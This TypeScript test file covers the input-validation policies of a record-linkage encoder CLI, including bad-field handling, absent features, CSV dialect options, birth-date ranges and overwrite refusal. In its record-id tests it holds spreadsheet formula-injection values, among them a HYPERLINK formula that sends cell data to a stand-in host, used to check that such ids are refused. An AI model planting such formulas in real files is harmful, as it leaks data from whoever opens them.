/**
 * The agency's input policies of `encode`: bad fields encoded as missing
 * (--on-bad-field missing), features declared absent (--absent, --map f=),
 * the CSV dialect from the command line (--delimiter, --trim) with a hint on
 * a padded header, plausible birth dates (--date-range), record-id trimming
 * and formula-injection refusal, dense-filter warning, and the overwrite
 * policy (--force). Each test first shows the failure it guards against.
 */
import { describe, expect, it } from 'vitest';
import { chmod, readFile, stat, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { encodeFile, formatSummary, FREQUENT_MIN, frequentValue, type EncodeOptions } from '../../src/encode/pipeline.js';
import { createClkEncoder, clkToBase64 } from '../../src/encode/clk.js';
import { openEncoded, readEncodedHeader } from '../../src/format/encoded-file.js';
import { loadLinkageSchema } from '../../src/schema/linkage-schema.js';
import { collectBatches } from '../helpers/batches.js';
import { runCli } from '../helpers/cli.js';
import { p20Rejection as refusal } from '../helpers/errors.js';
import { cliMessage } from '../../cli/hints.js';
import { fileTempDir } from '../helpers/tmp.js';

const ROOT = process.cwd();
const P20W = resolve(ROOT, 'protocols/compat/p20w-person-clkhash.json'); // the unhardened variant: these tests read CLK fill and keyed blocking values
const FEBRL_SCHEMA = resolve(ROOT, 'protocols/compat/febrl-clkhash.json'); // compares with the plain CLK encoder
const FEBRL_4A = resolve(ROOT, '../shared/data/febrl/dataset4a.csv');
const SECRET_TEXT = 'q3Jx0kPz8VfL2mN7tR5wY1bC4dE6gH9jK0lM2nO4pQs'; // the `secret new` format (base64url, 32 bytes)
const secret = new TextEncoder().encode(SECRET_TEXT);
const HEADER = 'id,first_name,middle_name,last_name,birth_date,sex,zip\n';
const NOW = new Date('2026-06-15T12:00:00Z');

const dir = fileTempDir('p20link-input-policy-');
let n = 0;
async function csvFile(text: string): Promise<string> {
  const p = join(dir, `in-${++n}.csv`);
  await writeFile(p, text);
  return p;
}
async function encode(input: string, extra: Partial<EncodeOptions> = {}) {
  const output = join(dir, `out-${++n}.enc`);
  const summary = await encodeFile({ input, output, schema: P20W, secret, party: 'k12', workers: 0, createdAt: NOW, allowUnhardened: true, ...extra });
  const r = await openEncoded(output);
  return { output, summary, header: r.header, rows: await collectBatches(r.batches) };
}
const b64 = (u: Uint8Array) => Buffer.from(u).toString('base64');

describe('--on-bad-field missing', () => {
  const input = HEADER + '1,Ann,,Lee,2001-02-03,F,97501\n2,Bo,,Kim,2001-02-30,M,97501\n3,Cy,,Ng,2001-02-03,Q,02134\n';

  it('by default a bad date still stops the run (the row is bad)', async () => {
    const e = await refusal(encode(await csvFile(input)));
    expect(e.code).toBe('ENCODE_BAD_ROW');
    expect(e.kind).toBe('input'); // exit status 2
    expect(cliMessage(e)).toMatch(/--on-bad-field missing/);
  });

  it('encodes the bad field as missing, keeps the row, and counts it per feature', async () => {
    const { summary, rows } = await encode(await csvFile(input), { onBadField: 'missing' });
    expect(summary).toMatchObject({ read: 3, encoded: 3, rejected: 0, missingFields: { birth_date: 1, sex: 1 } });
    expect(formatSummary(summary)).toMatch(/bad values encoded as missing: birth_date 1, sex 1/);
    // Row 2 is encoded exactly as the same row with an empty (missing) birth date.
    const blank = await encode(await csvFile(HEADER + '2,Bo,,Kim,,M,97501\n3,Cy,,Ng,2001-02-03,,02134\n'));
    expect(b64(rows[1]!.clk)).toBe(b64(blank.rows[0]!.clk));
    expect(rows[1]!.blocks.birth_year).toBe('');
    expect(b64(rows[2]!.clk)).toBe(b64(blank.rows[1]!.clk));
  });

  it('a feature without a missingValue sentinel adds no bits at all', async () => {
    // febrl-clkhash.json: postcode is an integer 50..9999 without missingValue.
    const febrl = 'rec_id, given_name, surname, street_number, address_1, address_2, suburb, postcode, state, date_of_birth, soc_sec_id\n' +
      'r1, ann, lee, 8, main street, , suburb, 12, nsw, 19800101, 1\n';
    const input2 = await csvFile(febrl);
    expect((await refusal(encode(input2, { schema: FEBRL_SCHEMA }))).code).toBe('ENCODE_BAD_ROW');
    const { summary, rows } = await encode(input2, { schema: FEBRL_SCHEMA, onBadField: 'missing' });
    expect(summary.missingFields).toEqual({ postcode: 1 });
    const schema = await loadLinkageSchema(FEBRL_SCHEMA);
    const enc = createClkEncoder(schema, secret);
    const values = ['r1', 'ann', 'lee', '8', 'main street', '', 'suburb', '12', 'nsw', '19800101', '1'];
    const skip = schema.features.map((f) => f.identifier === 'postcode');
    expect(b64(rows[0]!.clk)).toBe(clkToBase64(enc.encode(values, skip)));
    expect(b64(rows[0]!.clk)).not.toBe(clkToBase64(enc.encode(values.map((v, i) => (i === 7 ? '4223' : v)))));
  });

  it('worker threads give the same file and counts (bad fields, absent features, fill)', async () => {
    const lines = [HEADER.trimEnd()];
    for (let i = 0; i < 3000; i++) lines.push(`${i},Ann${i % 97},,Lee${i % 89},${i % 50 === 7 ? '2001-02-30' : `19${50 + (i % 40)}-0${1 + (i % 9)}-1${i % 9}`},${i % 61 === 3 ? 'Q' : 'F'},97501`);
    const input = await csvFile(lines.join('\n') + '\n');
    const opts = { onBadField: 'missing' as const, absent: ['middle_name'] };
    const a = await encode(input, { ...opts, workers: 0 });
    const b = await encode(input, { ...opts, workers: 2 });
    expect(b.summary.workers).toBe(2);
    expect(b.summary.missingFields).toEqual(a.summary.missingFields);
    expect(a.summary.missingFields).toEqual({ birth_date: 60, sex: 50 });
    expect(b.summary.meanFill).toBe(a.summary.meanFill);
    expect((await readFile(b.output, 'utf8')).split('\n').slice(1)).toEqual((await readFile(a.output, 'utf8')).split('\n').slice(1));
  });

  it('row-level problems (empty id) still follow --on-bad-row', async () => {
    const e = await refusal(encode(await csvFile(HEADER + ',Ann,,Lee,2001-02-03,F,97501\n'), { onBadField: 'missing' }));
    expect(e.message).toMatch(/record id is empty/);
  });
});

describe('absent features (--absent, --map feature=)', () => {
  const withCols = HEADER + '1,Ann,,Lee,2001-02-03,,97501\n2,Bo,,Kim,1999-12-31,,02134\n';
  const withoutCols = 'id,first_name,last_name,birth_date,zip\n1,Ann,Lee,2001-02-03,97501\n2,Bo,Kim,1999-12-31,02134\n';

  it('without a declaration a file lacking the columns is refused, with a hint at --absent', async () => {
    const e = await refusal(encode(await csvFile(withoutCols)));
    expect(e.code).toBe('ENCODE_HEADER');
    expect(e.kind).toBe('input'); // exit status 2
    expect(e.message).toMatch(/missing columns "middle_name" \(feature\), "sex" \(feature\)/);
    expect(cliMessage(e)).toMatch(/--absent feature/);
  });

  it('--absent encodes them as missing and records them in the header; --map sex= does the same', async () => {
    const ref = await encode(await csvFile(withCols));
    const a = await encode(await csvFile(withoutCols), { absent: ['sex', 'middle_name'] });
    const b = await encode(await csvFile(withoutCols), { map: { sex: '', middle_name: '' } });
    expect(ref.header.absentFeatures).toBeUndefined();
    expect(a.header.absentFeatures).toEqual(['middle_name', 'sex']);
    expect(b.header.absentFeatures).toEqual(['middle_name', 'sex']);
    expect(a.rows.map((r) => b64(r.clk))).toEqual(ref.rows.map((r) => b64(r.clk)));
    expect(b.rows.map((r) => b64(r.clk))).toEqual(ref.rows.map((r) => b64(r.clk)));
    expect(a.summary.absent).toEqual(['middle_name', 'sex']);
    expect(formatSummary(a.summary)).toMatch(/absent: middle_name, sex/);
    expect((await readEncodedHeader(a.output)).absentFeatures).toEqual(['middle_name', 'sex']);
  });

  it('an absent feature is missing even when the file has the column', async () => {
    const a = await encode(await csvFile(HEADER + '1,Ann,J,Lee,2001-02-03,F,97501\n'), { absent: ['sex', 'middle_name'] });
    const ref = await encode(await csvFile(withCols.split('\n').slice(0, 2).join('\n') + '\n'));
    expect(b64(a.rows[0]!.clk)).toBe(b64(ref.rows[0]!.clk));
  });

  it('refuses unknown features and declaring every feature absent', async () => {
    const input = await csvFile(withoutCols);
    expect((await refusal(encode(input, { absent: ['gender'] }))).message).toMatch(/"gender" is not a feature/);
    const all = ['first_name', 'middle_name', 'last_name', 'birth_date', 'sex', 'zip'];
    expect((await refusal(encode(input, { absent: all }))).code).toBe('ENCODE_ABSENT');
  });
});

describe('CSV dialect from the command line', () => {
  it('a ", "-separated file with the default schema: refused with a --trim hint, encoded with --trim and --map', async () => {
    const sf = join(dir, 'secret');
    await writeFile(sf, SECRET_TEXT);
    await chmod(sf, 0o600);
    const out = join(dir, 'febrl-p20w.enc');
    const base = ['encode', FEBRL_4A, '-o', out, '--schema', P20W, '--allow-unhardened', '--party', 'febrl', '--secret-file', sf, '--workers', '0'];
    const maps = ['--id-column', 'rec_id', '--map', 'first_name=given_name', '--map', 'last_name=surname', '--map', 'birth_date=date_of_birth', '--map', 'zip=postcode', '--absent', 'middle_name,sex'];
    const bad = await runCli([...base, ...maps]);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/surrounding spaces .*--trim/);
    const ok = await runCli([...base, ...maps, '--trim', '--on-bad-field', 'missing']);
    expect(ok.err).toMatch(/^p20link encode: read 5000, encoded 5000, rejected 0/);
    expect(ok.code).toBe(0);
    const h = await readEncodedHeader(out);
    expect(h.absentFeatures).toEqual(['middle_name', 'sex']);
    // The dialect is the agency's: not part of the schema fingerprint.
    const plain = await encode(await csvFile(HEADER + '1,Ann,,Lee,2001-02-03,F,97501\n'));
    expect(h.schemaFingerprint).toBe(plain.header.schemaFingerprint);
  });

  it('--no-trim overrides the schema; --delimiter reads another separator, with a hint when missing', async () => {
    const febrl = await csvFile('rec_id, given_name, surname, street_number, address_1, address_2, suburb, postcode, state, date_of_birth, soc_sec_id\nr1, ann, lee, 8, main street, , suburb, 4223, nsw, 19800101, 1\n');
    expect((await encode(febrl, { schema: FEBRL_SCHEMA })).summary.encoded).toBe(1);
    expect(cliMessage(await refusal(encode(febrl, { schema: FEBRL_SCHEMA, csv: { trim: false } })))).toMatch(/--trim/);
    const semi = await csvFile(HEADER.replace(/,/g, ';') + '1;Ann;;Lee;2001-02-03;F;97501\n');
    const e = await refusal(encode(semi));
    expect(cliMessage(e)).toMatch(/--delimiter ';'/);
    const ref = await encode(await csvFile(HEADER + '1,Ann,,Lee,2001-02-03,F,97501\n'));
    const r = await encode(semi, { csv: { delimiter: ';' } });
    expect(b64(r.rows[0]!.clk)).toBe(b64(ref.rows[0]!.clk));
    const tab = await encode(await csvFile(HEADER.replace(/,/g, '\t') + '1\tAnn\t\tLee\t2001-02-03\tF\t97501\n'), { csv: { delimiter: 'tab' } });
    expect(b64(tab.rows[0]!.clk)).toBe(b64(ref.rows[0]!.clk));
    expect((await refusal(encode(semi, { csv: { delimiter: '"' } }))).code).toBe('ENCODE_OPTIONS');
  });
});

describe('plausible birth dates', () => {
  const input = HEADER + '1,Ann,,Lee,2099-01-01,F,97501\n2,Bo,,Kim,1800-01-01,M,97501\n3,Cy,,Ng,2001-02-03,F,97501\n';

  it('impossible dates are bad fields by default (today and 1900-01-01 are the default bounds)', async () => {
    const e = await refusal(encode(await csvFile(input)));
    expect(e.location).toMatchObject({ line: 2, field: 'birth_date' });
    expect(e.message).toMatch(/outside the plausible range 1900-01-01\.\.2026-06-15/);
    const m = await encode(await csvFile(input), { onBadField: 'missing' });
    expect(m.summary.missingFields).toEqual({ birth_date: 2 });
    const edge = await encode(await csvFile(HEADER + '1,Ann,,Lee,1900-01-01,F,97501\n2,Bo,,Kim,2026-06-15,M,97501\n'));
    expect(edge.summary.encoded).toBe(2);
  });

  it('--date-range widens or turns off the check; the rejects file names the reason', async () => {
    const wide = await encode(await csvFile(input), { dateRange: { min: '1800-01-01', max: '2100-12-31' } });
    expect(wide.summary.encoded).toBe(3);
    expect((await encode(await csvFile(input), { dateRange: 'none' })).summary.encoded).toBe(3);
    const rejectsFile = join(dir, `rej-${++n}.csv`);
    const r = await encode(await csvFile(input), { onBadRow: 'reject', rejectsFile });
    expect(r.summary).toMatchObject({ encoded: 1, rejected: 2 });
    expect(await readFile(rejectsFile, 'utf8')).toMatch(/\n2,birth_date,.*plausible range/);
  });
});

describe('record ids', () => {
  it('ids are trimmed: "A1070" and "A1070 " are one id (a duplicate)', async () => {
    const e = await refusal(encode(await csvFile(HEADER + 'A1070,Ann,,Lee,2001-02-03,F,97501\n"A1070 ",Bo,,Kim,2001-02-03,M,97501\n')));
    expect(e.code).toBe('ENCODE_DUPLICATE_ID');
    const ok = await encode(await csvFile(HEADER + '" A1 ",Ann,,Lee,2001-02-03,F,97501\n'));
    expect(ok.rows[0]!.id).toBe('A1');
  });

  it('ids a spreadsheet would run as a formula are bad rows, never written', async () => {
    const ids = ['=HYPERLINK("http://x.example/?"&A1;"x")', '+1234', '-12', '@SUM(A1)'];
    const text = HEADER + ids.map((id, i) => `"${id.replace(/"/g, '""')}",N${i},,Lee,2001-02-03,F,97501\n`).join('') + 'OK1,Ann,,Lee,2001-02-03,F,97501\n';
    const e = await refusal(encode(await csvFile(text)));
    expect(e.location).toMatchObject({ line: 2, field: 'id' });
    expect(e.message).toMatch(/formula/);
    const rejectsFile = join(dir, `rej-${++n}.csv`);
    const r = await encode(await csvFile(text), { onBadRow: 'reject', rejectsFile });
    expect(r.summary).toMatchObject({ encoded: 1, rejected: 4 });
    expect(r.rows.map((x) => x.id)).toEqual(['OK1']);
    expect(await readFile(r.output, 'utf8')).not.toMatch(/HYPERLINK|SUM\(/);
  });
});

describe('dense filters', () => {
  it('warns when the CLKs fill more than 60 % of the bits; a normal schema does not', async () => {
    const rows = HEADER + Array.from({ length: 40 }, (_, i) => `${i},Annabelle${i},Q,Featherstonehaugh${i},2001-02-0${1 + (i % 9)},F,97501\n`).join('');
    const normal = await encode(await csvFile(rows));
    expect(normal.summary.warnings).toEqual([]);
    expect(normal.summary.meanFill).toBeGreaterThan(0.1);
    expect(normal.summary.meanFill).toBeLessThan(0.6);
    const raw = JSON.parse(await readFile(P20W, 'utf8'));
    for (const f of raw.features) f.hashing.strategy = { bitsPerToken: 100 };
    const dense = join(dir, 'dense.json');
    await writeFile(dense, JSON.stringify(raw));
    const d = await encode(await csvFile(rows), { schema: dense });
    expect(d.summary.meanFill).toBeGreaterThan(0.6);
    expect(d.summary.warnings.join()).toMatch(/dense/);
    expect(formatSummary(d.summary)).toMatch(/\np20link: warning: the CLKs are dense/);
  });
});

describe('a frequent birth date (a placeholder)', () => {
  // 200 people born on different days of 1999-2004, and a placeholder for the unknown dates of some of them
  const people = (placeholders: number, value = '1900-01-01') =>
    HEADER +
    Array.from({ length: 200 }, (_, i) => {
      const d = i < placeholders ? value : new Date(Date.UTC(1999, 0, 1) + i * 9 * 86_400_000).toISOString().slice(0, 10);
      return `${i},Ann${i},Q,Lee${i},${d},F,97501\n`;
    }).join('');

  it('warns of a value held by far more records than the others, without naming it; not of ordinary dates', async () => {
    const plain = await encode(await csvFile(people(0)));
    expect(plain.summary.warnings).toEqual([]);
    const few = await encode(await csvFile(people(FREQUENT_MIN - 1)));
    expect(few.summary.warnings).toEqual([]);
    const r = await encode(await csvFile(people(25)));
    expect(r.summary.warnings).toHaveLength(1);
    expect(r.summary.warnings[0]).toMatch(/^birth_date: one value is held by 25 of the 200 records that have one \(12\.5 %/);
    expect(r.summary.warnings[0]).not.toMatch(/1900/);
    expect(formatSummary(r.summary)).toMatch(/\np20link: warning: birth_date: one value .* declare it with the missing-values option \(or in the schema/);
    // the same run on two workers and small ranges counts the same
    const w = await encode(await csvFile(people(25)), { workers: 2, rangeBytes: 512 });
    expect(w.summary.warnings).toEqual(r.summary.warnings);
  });

  it('a placeholder declared missing in the schema is no date: no warning of a frequent value, and its records count among those without a date', async () => {
    const raw = JSON.parse(await readFile(P20W, 'utf8'));
    raw.p20link.normalize.birth_date = [{ step: 'missing', values: ['1900-01-01'] }, ...raw.p20link.normalize.birth_date];
    const schema = join(dir, 'placeholder.json');
    await writeFile(schema, JSON.stringify(raw));
    const declared = await encode(await csvFile(people(25)), { schema });
    // 25 of 200 records without a date: more than a tenth (MISSING_DATE_WARN_SHARE), which the summary says
    expect(declared.summary.warnings).toEqual([expect.stringMatching(/^birth_date: 25 of the 200 records \(13 %\) hold none: the linker links those records on names, sex, ZIP and middle initial alone/)]);
    expect((await encode(await csvFile(people(20)), { schema })).summary.warnings).toEqual([]);
    // row 0 (the placeholder) is encoded as the same row with an empty birth date
    const empty = await encode(await csvFile(HEADER + '0,Ann0,Q,Lee0,,F,97501\n'), { schema });
    expect(b64(declared.rows.find((x) => x.id === '0')!.clk)).toBe(b64(empty.rows[0]!.clk));
  });

  it('frequentValue: known answers', () => {
    const counts = (top: number, others: number, each: number) => new Map<string, number>([['x', top], ...Array.from({ length: others }, (_, i) => [`v${i}`, each] as [string, number])]);
    expect(frequentValue(counts(FREQUENT_MIN - 1, 50, 1))).toBeUndefined();
    expect(frequentValue(counts(20, 50, 1))).toEqual({ count: 20, records: 70, ratio: 20 });
    expect(frequentValue(counts(20, 50, 3))).toBeUndefined(); // 6.7 times the others
    expect(frequentValue(counts(30, 10, 3))).toEqual({ count: 30, records: 60, ratio: 10 });
    expect(frequentValue(counts(25, 0, 0))).toEqual({ count: 25, records: 25, ratio: Number.POSITIVE_INFINITY });
  });
});

describe('overwrite policy', () => {
  it('refuses an existing output or rejects file unless force, leaving it untouched', async () => {
    const input = await csvFile(HEADER + '1,Ann,,Lee,2001-02-03,F,97501\n2,Bo,,Kim,2001-02-30,M,97501\n');
    const output = join(dir, 'exists.enc');
    await writeFile(output, 'keep me');
    const base = { input, output, schema: P20W, secret, party: 'k12', workers: 0, allowUnhardened: true };
    const e = await refusal(encodeFile(base));
    expect(e.code).toBe('ENCODE_OUTPUT_EXISTS');
    expect(e.kind).toBe('input'); // exit status 2
    expect(cliMessage(e)).toMatch(/--force/);
    expect(await readFile(output, 'utf8')).toBe('keep me');
    const rejectsFile = join(dir, 'exists.rejects.csv');
    await writeFile(rejectsFile, 'keep me too');
    const out2 = join(dir, 'fresh.enc');
    const e2 = await refusal(encodeFile({ ...base, output: out2, onBadRow: 'reject', rejectsFile }));
    expect(e2.code).toBe('ENCODE_OUTPUT_EXISTS');
    expect(e2.location.file).toBe(rejectsFile);
    expect(await readFile(rejectsFile, 'utf8')).toBe('keep me too');
    const s = await encodeFile({ ...base, onBadRow: 'reject', rejectsFile, force: true });
    expect(s).toMatchObject({ encoded: 1, rejected: 1 });
    expect((await readFile(output, 'utf8')).startsWith('{"format":"p20link/encoded"')).toBe(true);
    expect((await stat(rejectsFile)).size).toBeGreaterThan(20);
  });

  it('the CLI refuses with exit 2 and replaces with --force', async () => {
    const sf = join(dir, 'secret2');
    await writeFile(sf, SECRET_TEXT);
    await chmod(sf, 0o600);
    const input = await csvFile(HEADER + '1,Ann,,Lee,2001-02-03,F,97501\n');
    const output = join(dir, 'cli-exists.enc');
    await writeFile(output, 'old');
    const args = ['encode', input, '-o', output, '--schema', P20W, '--allow-unhardened', '--party', 'k12', '--secret-file', sf];
    const r = await runCli(args);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/already exists; refusing to overwrite it/);
    expect(await readFile(output, 'utf8')).toBe('old');
    expect((await runCli([...args, '--force'])).code).toBe(0);
    expect(await readFile(output, 'utf8')).not.toBe('old');
  });
});
